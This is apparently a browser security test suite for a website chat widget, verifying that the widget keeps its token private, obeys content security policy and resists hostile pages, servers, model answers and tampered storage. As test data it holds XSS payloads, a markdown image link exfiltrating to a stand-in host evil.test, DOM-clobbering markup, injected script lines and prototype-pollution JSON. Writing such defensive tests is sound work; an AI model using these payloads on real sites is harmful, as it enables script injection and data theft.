// What SECURITY.md promises, on real pages: what the script leaves alone, where the token never is, what a hostile
// page, gateway, server or storage can't make it do.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { OUTER } from '../rings.ts';
import { launchBrowser } from './support/browser.ts';
import { type Guarded, guard, readWholePage } from './support/guarded.ts';
import { giveTouch, middleOf, pressHeld, tap } from './support/held.ts';
import { listen } from './support/listen.ts';
import { startOtherGateway } from './support/other-gateway.ts';
import { stored } from './support/stored.ts';
import type { Step } from './support/test-gateway.ts';
import { until, type Visitor, visitorOf } from './support/visitor.ts';
import { createWorld, DIST, pageHtml, recordConsole, type World } from './support/world.ts';

const SECRET = 'https://evil.test/collect?d=secret';
/** What JSON would have to look like to be taken for an element. */
const VNODE = {
  type: 'img',
  props: { src: SECRET, onerror: 'hacked=1' },
  key: null,
  ref: null,
  __k: null,
};

const SCRIPT: Step[][] = [
  [
    {
      say: 'Good day.',
      citations: [
        { type: 'kb', document_uri: 'https://shop.example/a', document_title: 'Returns' },
      ],
    },
  ],
  [{ call: [{ name: 'look', input: { at: 'cart' } }] }, { say: 'I looked.' }],
  [{ call: [{ name: 'buy', input: { what: 'mug' } }] }, { say: 'All done.' }],
  [{ say: `![chart][r] ![chart](${SECRET})\n\n[r]: ${SECRET}` }],
  [{ say: VNODE as unknown as string }, { say: 'Still here.' }],
  [{ say: '<img src=x onerror="hacked=1"><script>hacked=1</script>' }, { say: 'After it.' }],
];

const NONCE = 'c2VjdXJpdHk';
/** Everything that the page itself does, under the nonce of its policy. */
const HEAD = `<script nonce="${NONCE}">
  window.ran = []; window.violations = []; window.told = [];
  addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample));
  for (const name of ['ready', 'open', 'close', 'message', 'unread', 'tool', 'error', 'session'])
    addEventListener('bellhop:' + name, (e) => told.push(e.detail));
  window.describePage = () => {
    const shape = (object) => Object.entries(Object.getOwnPropertyDescriptors(object)).map(([key, { value, get, set }]) =>
      key + ':' + [value, get, set].map((part) => typeof part === 'function' ? part.name + part.length + Function.prototype.toString.call(part).length : typeof part));
    const builtins = [Object, Function, Array, String, Number, Promise, RegExp, Map, Set, JSON, Math, Reflect, Symbol, Date, Error, URL,
      EventTarget, Node, Element, HTMLElement, Document, ShadowRoot, Event, Window, History, Location, Navigator, Storage, Response, Request, CSSStyleSheet];
    return {
      globals: Object.getOwnPropertyNames(window),
      builtins: builtins.flatMap((builtin) => [builtin, builtin.prototype].filter(Boolean).map(shape)),
      fetch: [fetch, setTimeout, addEventListener, history.pushState].map(String),
      attributes: [document.documentElement, document.body].map((element) => [...element.attributes].map(({ name, value }) => name + '=' + value)),
      head: document.head.innerHTML, body: document.body.innerHTML, sheets: document.adoptedStyleSheets.length, title: document.title,
    };
  };
</script>
<script nonce="${NONCE}">
  (window.bellhop ||= []).push((chat) => {
    const schema = (name) => ({ type: 'object', properties: { [name]: { type: 'string' } } });
    chat.registerTool({ name: 'look', description: 'Looks.', annotations: { readOnlyHint: true }, inputSchema: schema('at'),
      execute: ({ at }) => { ran.push('look'); return 'seen ' + at; } });
    chat.registerTool({ name: 'buy', description: 'Buys.', inputSchema: schema('what'),
      execute: ({ what }) => { ran.push('buy'); return 'bought ' + what; } });
  });
</script>`;

interface TestWindow {
  ran: string[];
  violations: string[];
  told: unknown[];
  describePage(): { globals: string[] } & Record<string, unknown>;
}

let browser: Browser;
let gateway: Guarded;
let world: World;
let context: BrowserContext;
let page: Page;
let visitor: Visitor;
let lines: { type: string; text: string }[];
let requests: { url: string; headers: Record<string, string>; body: string }[];

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

beforeEach(async () => {
  gateway = guard(await startOtherGateway(SCRIPT));
  world = await createWorld(gateway);
  context = await browser.newContext();
  requests = [];
  context.on('request', (request) =>
    requests.push({
      url: request.url(),
      headers: request.headers(),
      body: request.postData() ?? '',
    }),
  );
  // What has left the page is seen; nothing need answer.
  await context.route('https://**', (route) => route.abort());
  page = await context.newPage();
  lines = recordConsole(page);
  visitor = visitorOf(page);
});

afterEach(async () => {
  await context.close();
  await world.close();
  expect(lines.filter(({ type }) => type === 'uncaught')).toEqual([]);
});

/** What SECURITY.md tells owners to send, word for word, with this page's nonce and gateway; and nothing beside it. */
function recommendedPolicy(): string {
  const page = readFileSync(join(import.meta.dirname, '../../SECURITY.md'), 'utf8');
  const [, lines] = /```[^\n]*\n(script-src[\s\S]*?)```/.exec(page) ?? [];
  if (lines === undefined) throw new Error('SECURITY.md has no policy between fences.');
  return `default-src 'none'; ${lines}`
    .replaceAll('\n', ' ')
    .replace('nonce-…', `nonce-${NONCE}`)
    .replace('https://gateway.example', world.gateway.url);
}

const policy = (): Record<string, string> => ({ 'content-security-policy': recommendedPolicy() });

async function visit(
  attributes: Record<string, string> = {},
  body = '',
  strict = true,
  head = HEAD,
) {
  const html = pageHtml(world, { nonce: NONCE, ...attributes }, body, head);
  world.put('/', { html, headers: strict ? policy() : {} });
  await page.goto(`${world.site}/`);
  await visitor.launcher.waitFor();
}

const inPage = <T>(read: (window: TestWindow) => T): Promise<T> =>
  page.evaluate(`(${read})(window)`) as Promise<T>;

async function talkUpTo(turns: number): Promise<void> {
  const steps: (() => Promise<unknown>)[] = [
    () => visitor.log.getByText('Good day.').waitFor(),
    () => visitor.log.getByText('I looked.').waitFor(),
    () => visitor.yes.waitFor(),
  ];
  await visitor.open();
  for (const [index, step] of steps.slice(0, turns).entries()) {
    await visitor.write(`Turn ${index}`);
    await step();
  }
}

/** From now on the page's new timers wait. @returns what starts them. */
async function holdTimers(): Promise<() => Promise<void>> {
  const held = await page.evaluateHandle(() => {
    const { setTimeout, clearTimeout } = window;
    const waiting = new Map<number, [TimerHandler, number | undefined]>();
    const started = new Map<number, number>();
    let last = 1e9;
    window.setTimeout = ((handler: TimerHandler, ms?: number) => {
      waiting.set(++last, [handler, ms]);
      return last;
    }) as typeof setTimeout;
    window.clearTimeout = (id) => {
      waiting.delete(Number(id));
      clearTimeout(started.get(Number(id)) ?? id);
    };
    return () => {
      window.setTimeout = setTimeout;
      for (const [id, [handler, ms]] of waiting) started.set(id, setTimeout(handler, ms));
    };
  });
  return () => held.evaluate((start) => start());
}

const leaks = (): string[] =>
  requests.map(({ url }) => url).filter((url) => /evil\.test|secret/.test(url));

describe('a whole conversation', () => {
  it('leaves the page alone but for window.bellhop, breaks no policy, and keeps the token to itself', async () => {
    // The same page without the widget is what "before" means.
    world.put('/plain', { html: `<!doctype html><html lang="en"><title>Shop</title>${HEAD}` });
    const hashes = JSON.parse(readFileSync(join(DIST, 'integrity.json'), 'utf8'));
    await visit({
      'data-debug': 'on',
      'data-theme': 'dark',
      integrity: hashes['bellhop.js'],
      crossorigin: 'anonymous',
    });
    const first = await inPage((window) => window.describePage());
    expect(world.tickets).toEqual([]);

    await talkUpTo(1);
    // The token is refused once, in the middle.
    const refused = { status: 401, body: '{}', headers: { 'access-control-allow-origin': '*' } };
    await page.route(`${world.gateway.url}/**`, (route) => route.fulfill(refused), { times: 1 });
    await visitor.write('Look, please');
    await visitor.log.getByText('I looked.').waitFor();
    expect(gateway.tokens.length).toBeGreaterThan(1);
    await visitor.write('Buy, please');
    await visitor.answer('yes');
    await visitor.log.getByText('All done.').waitFor();
    // And the gateway fails for a while.
    await page.route(`${world.gateway.url}/**`, (route) => route.abort(), { times: 2 });
    await visitor.write('A picture, please');
    await visitor.log
      .getByText(/Show image from evil\.test/)
      .first()
      .waitFor();
    await visitor.panel.getByRole('button', { name: 'Menu' }).click();
    await page.getByRole('menuitem', { name: 'Owner’s view' }).click();
    await page.getByText('session.status_idle').first().waitFor();

    const kept = [
      await readWholePage(page),
      JSON.stringify(await inPage((window) => window.told)),
      ...lines.map(({ text }) => text),
      ...requests.flatMap(({ url, headers, body }) => [
        url,
        body,
        JSON.stringify({ ...headers, authorization: '' }),
      ]),
    ].join('\n');
    expect(kept).toContain('Good day.');
    for (const token of gateway.tokens) expect(kept).not.toContain(token);
    const authorized = requests.filter(({ headers }) => headers.authorization !== undefined);
    expect(authorized.length).toBeGreaterThan(3);
    for (const { url, headers } of authorized) {
      expect(url.startsWith(`${world.gateway.url}/`)).toBe(true);
      expect(headers.cookie).toBeUndefined();
      expect(headers.referer).toBeUndefined();
    }
    expect(leaks()).toEqual([]);
    expect(await inPage((window) => window.violations)).toEqual([]);
    expect(await inPage((window) => window.ran)).toEqual(['look', 'buy']);

    const after = await inPage((window) => window.describePage());
    expect(after).toEqual(first);
    await page.goto(`${world.site}/plain`);
    const plain = await inPage((window) => window.describePage());
    expect(first.globals.filter((name) => !plain.globals.includes(name))).toEqual([]);
    expect(first.builtins).toEqual(plain.builtins);
    expect(first.fetch).toEqual(plain.fetch);
    expect(first.attributes).toEqual(plain.attributes);
  });
});

describe('a page whose policy names origins instead of a nonce', () => {
  it('has its chat all the same, and breaks nothing of it', async () => {
    const policy = [
      "default-src 'none'",
      `script-src 'self' ${world.cdn}`,
      "style-src 'self'",
      "img-src 'self' data:",
      `connect-src 'self' ${world.gateway.url}`,
      "require-trusted-types-for 'script'",
      'trusted-types bellhop',
    ].join('; ');
    const html = pageHtml(world, {}, '', '<link rel="icon" href="data:,">');
    world.put('/', { html, headers: { 'content-security-policy': policy } });
    await page.goto(`${world.site}/`);
    await visitor.launcher.waitFor();
    await talkUpTo(1);
    const refused = lines.filter(({ text }) => /policy|refused/i.test(text));
    expect(refused).toEqual([]);
  });
});

const NAME_TAKERS = [
  '<img name="currentScript"><form id="currentScript"></form><form id="bellhop"><input name="chats"><input name="get"></form><form id="bellhopConfig"><input name="base" value="https://evil.test"></form>',
  '<a id="bellhop"></a><a id="bellhop" name="chats" href="https://evil.test/"></a><a id="bellhopConfig"></a><a id="bellhopConfig" name="base" href="https://evil.test/x"></a><a id="bellhopConfig" name="gateway" href="https://evil.test/y"></a>',
];
describe.each([
  { bodies: NAME_TAKERS.slice(0, 1), ring: {} },
  { bodies: NAME_TAKERS.slice(1), ring: OUTER },
])('a page whose elements take the script’s names', ({ bodies, ring }) => {
  it.each(bodies)('still talks to its own gateway, with its own files: %s', ring, async (body) => {
    // Without a script of the page's, which would have taken the name first.
    await visit({}, body, true, '');
    await talkUpTo(1);
    expect(leaks()).toEqual([]);
  });
});

const FILES: [string, RegExp, RegExp][] = [
  ['the panel', /\/panel-/, /failed/i],
  ['the conversation', /\/core-/, /isn.t working/i],
  ['the menu', /\/menu-/, /could(n.t| not) be loaded/i],
];
describe.each([
  { files: FILES.slice(0, 1), ring: {} },
  { files: FILES.slice(1), ring: OUTER },
])('a file that was changed on the server', ({ files, ring }) => {
  it.each(files)('%s: never runs, and the visitor is told', ring, async (name, path, words) => {
    let served = 0;
    await page.route(path, async (route) => {
      served += 1;
      const response = await route.fetch();
      const body = `globalThis.hacked = 1;\n${await response.text()}`;
      await route.fulfill({ response, body });
    });
    await visit({}, '', false);
    await visitor.launcher.click();
    if (name !== 'the panel') {
      await visitor.composer.waitFor();
      if (name === 'the menu') await visitor.panel.getByRole('button', { name: 'Menu' }).click();
      else await visitor.write('Hi');
    }
    const told = page.locator('bellhop-host').getByText(words).first();
    await told.waitFor();
    // What was written while it is missing comes back.
    if (name === 'the conversation') {
      const isBack = async () => (await visitor.composer.inputValue()) === 'Hi';
      await until('the text is back in the composer', isBack);
    }
    expect(served).toBeGreaterThan(0);
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  });
});

describe('a question about a tool', () => {
  const press = (at: number): Promise<void> =>
    page.evaluate((index) => {
      const root = document.querySelector('bellhop-host')?.shadowRoot;
      const buttons = [...(root?.querySelectorAll<HTMLElement>('.choices button') ?? [])];
      const button = buttons[index];
      button?.click();
      button?.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
      button?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    }, at);

  it('is answered by no script, and by no click before it has been in sight for half a second', async () => {
    await visit();
    await talkUpTo(3);
    const allow = visitor.yes;
    const isArmed = () =>
      page.evaluate(() => {
        const root = document.querySelector('bellhop-host')?.shadowRoot;
        return root?.querySelector('.choices button')?.getAttribute('aria-disabled') === null;
      });
    await until('the card to be armed', isArmed);
    // Out of sight and back: a trusted click comes too early again.
    await page.evaluate(() => {
      const root = document.querySelector('bellhop-host')?.shadowRoot;
      const log = root?.querySelector<HTMLElement>('[role=log]');
      const choices = root?.querySelector('.choices');
      log?.style.setProperty('display', 'none');
      window.addEventListener(
        'click',
        (event) => {
          const isOnIt =
            choices !== null && choices !== undefined && event.composedPath().includes(choices);
          if (isOnIt) (window as unknown as { ran: string[] }).ran.push('early click');
        },
        { capture: true, once: true },
      );
    });
    await page.waitForTimeout(800);
    expect(await isArmed()).toBe(false);
    // The half second begins, and does not pass before the click: on a busy machine a click takes longer than that.
    const startTimers = await holdTimers();
    await page.evaluate(() => {
      const log = document
        .querySelector('bellhop-host')
        ?.shadowRoot?.querySelector<HTMLElement>('[role=log]');
      log?.removeAttribute('style');
      log?.scrollTo(0, log.scrollHeight);
    });
    const box = await allow.boundingBox();
    await page.mouse.click((box?.x ?? 0) + 8, (box?.y ?? 0) + 8);
    expect(await inPage((window) => window.ran)).toEqual(['look', 'early click']);
    await startTimers();
    await inPage((window) => window.ran.pop());
    await until('the card to be armed', isArmed);
    await press(0);
    await press(1);
    await page.waitForTimeout(300);
    expect(await inPage((window) => window.ran)).toEqual(['look']);
    expect(await allow.isVisible()).toBe(true);
    await allow.click();
    await visitor.log.getByText('All done.').waitFor();
    expect(await inPage((window) => window.ran)).toEqual(['look', 'buy']);
  });

  const PRESSES = [
    ['a mouse that is held until the button is drawn as pressed', 'no-preference', pressHeld, {}],
    ['a mouse that is held, where nothing moves softly', 'reduce', pressHeld, OUTER],
    [
      'a finger',
      'no-preference',
      async (at: Page, button: Locator) => tap(at, await middleOf(button)),
      {},
    ],
  ] as const;
  for (const [what, reducedMotion, press, ring] of PRESSES) {
    it(`is answered by one press of ${what}`, ring, async () => {
      await page.emulateMedia({ reducedMotion });
      if (what === 'a finger') await giveTouch(page);
      await visit();
      await talkUpTo(3);
      const no = visitor.no;
      await until('the card to be armed', () => no.isEnabled());
      await press(page, no);
      await visitor.log.getByText('All done.').waitFor();
      expect(await inPage((window) => window.ran)).toEqual(['look']);
    });
  }

  it('in a frame of another origin is not asked: what changes nothing runs, the rest is refused', async () => {
    const html = pageHtml(world, { nonce: NONCE }, '', HEAD);
    world.put('/', { html });
    const outer = await listen((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<iframe src="${world.site}/" width="900" height="700"></iframe>`);
    });
    await page.goto(`${outer.url}/`);
    const frame = page.frameLocator('iframe');
    await frame.locator('bellhop-host button[part=launcher]').click();
    const box = frame.getByRole('textbox', { name: 'Message' });
    for (const [index, answer] of ['Good day.', 'I looked.', 'All done.'].entries()) {
      await box.fill(`Turn ${index}`);
      await box.press('Enter');
      await frame.getByRole('log').getByText(answer).waitFor();
    }
    await outer.close();
    const results = (await world.gateway.events(world.sessionId())).filter(
      ({ type }) => type === 'user.tool_result',
    );
    expect(
      results.map(({ content }) => (content as { error_code?: string }[])[0]?.error_code),
    ).toEqual([undefined, 'permission_denied']);
  });
});

describe('an answer that means harm', () => {
  it('fetches nothing by a picture, becomes no element as JSON, and is text as HTML', async () => {
    await visit();
    await talkUpTo(2);
    await visitor.write('Buy');
    await visitor.answer('no');
    await visitor.log.getByText('All done.').waitFor();
    await visitor.write('Picture');
    await visitor.log
      .getByText(/evil\.test/)
      .first()
      .waitFor();
    await visitor.write('JSON');
    await visitor.log.getByText('Still here.').waitFor();
    await visitor.write('HTML');
    await visitor.log.getByText('After it.').waitFor();
    await visitor.log.getByText('<script>').waitFor();
    expect(await visitor.log.locator('img, script').count()).toBe(0);
    expect(leaks()).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
    expect(await inPage((window) => window.violations)).toEqual([]);
  });
});

describe.each([
  { offset: 0, ring: {} },
  { offset: 1, ring: OUTER },
])('rows that somebody changed in the browser’s storage ($offset)', ({ offset, ring }) => {
  it('harm nothing, and the log is read again', ring, async () => {
    await visit();
    await talkUpTo(1);
    await until('the talk to be stored', async () => (await stored(page)).includes('Good day.'));
    const changed = await page.evaluate(async (shift) => {
      let count = 0;
      const evil = (value: unknown): unknown => {
        const kind = ['types', 'keys', 'sizes'][(count + shift) % 3];
        if (kind === 'types') return [null, 42, 'text', [], { v: 1 }][count % 5];
        if (kind === 'sizes') {
          return {
            v: 1,
            first: -9e15,
            last: 9e15,
            rows: Array(1e4).fill(value),
            events: Array(1e4).fill(value),
            list: Array(1e4).fill('x'),
          };
        }
        return JSON.parse(
          JSON.stringify(value ?? {})
            .replace(
              /^\{/,
              '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},',
            )
            .replace(/,\}$/, '}'),
        );
      };
      for (const { name } of await indexedDB.databases()) {
        const db = await new Promise<IDBDatabase>((resolve) => {
          const opening = indexedDB.open(name ?? '');
          opening.onsuccess = () => resolve(opening.result);
        });
        for (const storeName of db.objectStoreNames) {
          const transaction = db.transaction(storeName, 'readwrite');
          const store = transaction.objectStore(storeName);
          await new Promise<void>((resolve) => {
            store.openCursor().onsuccess = (event) => {
              const cursor = (event.target as IDBRequest<IDBCursorWithValue | null>).result;
              if (cursor === null) return resolve();
              cursor.update(evil(cursor.value));
              count += 1;
              cursor.continue();
            };
          });
        }
        db.close();
      }
      return count;
    }, offset);
    expect(changed).toBeGreaterThan(1);
    await page.reload();
    // The panel opens by itself where the note of it has survived.
    await visitor.openByScript();
    await visitor.write('Once more');
    await until('an answer', () =>
      visitor.log
        .getByText(/Good day\.|I looked\./)
        .first()
        .isVisible(),
    );
    expect(await page.evaluate(() => ({}) as { polluted?: number })).toEqual({});
    expect(await page.evaluate(() => (Object.prototype as { polluted?: number }).polluted)).toBe(
      undefined,
    );
  });
});
